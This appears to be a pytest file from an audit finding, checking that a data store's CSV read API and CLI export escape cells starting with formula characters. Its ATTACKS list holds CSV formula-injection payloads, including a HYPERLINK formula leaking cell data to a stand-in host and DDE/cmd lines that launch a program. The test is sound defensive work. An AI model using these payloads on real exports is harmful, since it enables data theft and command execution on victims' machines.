"""Finding 6: spreadsheet formulas in CSV output (read API ``format=csv``, CLI export).

A string cell starting with ``=``, ``+``, ``-``, ``@``, tab or carriage return
is written with a leading ``'`` (SPEC 3.2); numbers stay numbers and JSON
answers stay exact.
"""
import csv
import io
from pathlib import Path

import pytest

from tests.support.cli import run

ROOT = Path(__file__).resolve().parents[3]
ATTACKS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"!A0")',
    "\t=1+1",
    "\r=1+1",
]
HARMLESS = ["plain", "a-b", "3-2", " =not first", "'already quoted"]


@pytest.fixture
def bucket(app, make_bucket):
    token = make_bucket("cells", bucket_type="custom", raw_queries_allowed=True)
    records = [{"_id": f"r{index}", "text": text} for index, text in enumerate(ATTACKS + HARMLESS)]
    records.append({"_id": "number", "text": -5})
    app.post_json("/cells", records, headers={"Authorization": f"Bearer {token}"})
    return "cells"


def _cells(text):
    rows = list(csv.reader(io.StringIO(text, newline="")))
    header = rows[0]
    return {row[header.index("_id")]: row[header.index("text")] for row in rows[1:]}


def _expected():
    expected = {f"r{index}": "'" + text for index, text in enumerate(ATTACKS)}
    expected.update({f"r{len(ATTACKS) + index}": text for index, text in enumerate(HARMLESS)})
    expected["number"] = "-5"
    return expected


def test_read_api_csv_neutralises_formulas(app, bucket):
    response = app.get("/cells", {"format": "csv"})
    assert response.content_type == "text/csv"
    assert _cells(response.text) == _expected()


def test_read_api_json_stays_exact(app, bucket):
    values = {record["_id"]: record["text"] for record in app.get("/cells").json["data"]}
    assert [values[f"r{index}"] for index in range(len(ATTACKS))] == ATTACKS
    assert values["number"] == -5


def test_cli_export_csv_neutralises_formulas(capsys, app, bucket, db_path, monkeypatch, tmp_path):
    monkeypatch.setenv("BACKDROP_STORE_URL", f"sqlite:///{db_path}")
    target = tmp_path / "cells.csv"
    code, _, err = run(capsys, "export", str(ROOT / "development.ini"), "cells",
                       "--format", "csv", "--output", str(target))
    assert code == 0, err
    assert _cells(target.read_bytes().decode("utf-8")) == _expected()
